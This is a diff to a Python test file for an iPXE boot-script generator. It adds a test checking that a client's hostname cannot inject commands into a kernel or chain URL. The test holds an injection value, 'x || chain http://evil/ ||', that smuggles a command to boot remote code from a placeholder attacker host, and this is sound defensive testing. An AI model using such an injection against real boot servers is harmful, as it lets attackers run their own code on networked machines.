@@ -7,6 +7,7 @@ from pxectl.boot.decide import decide
 from pxectl.boot.machine import Netboot
 from pxectl.boot.profile import Profile
 from pxectl.boot.quirks import Local, Quirks
+from pxectl.boot.recipe import Recipe
 from pxectl.boot.rules import Rules
 from pxectl.boot.script import script_for
 from pxectl.boot.urls import Urls
@@ -138,3 +139,14 @@ def test_what_a_client_says_of_itself_runs_no_command():
 
     with pytest.raises(PxectlError, match="iPXE would end the command"):
         script(replace(TWO, cmdline=("host={{ client.hostname }}",)), hostile)
+
+
+@pytest.mark.parametrize("key", ["kernel", "chain"])
+def test_nor_does_it_within_a_url(key):
+    hostile = replace(EFI, hostname="x || chain http://evil/ ||")
+    url = "http://10.77.0.5/{{ client.hostname }}"
+    recipe = Recipe("r", "", words={"x64": {}}, kernel=url)
+    profile = Profile("p", chain=url) if key == "chain" else Profile("p", recipe=recipe)
+
+    with pytest.raises(PxectlError, match="iPXE would end the command"):
+        script(profile, hostile)
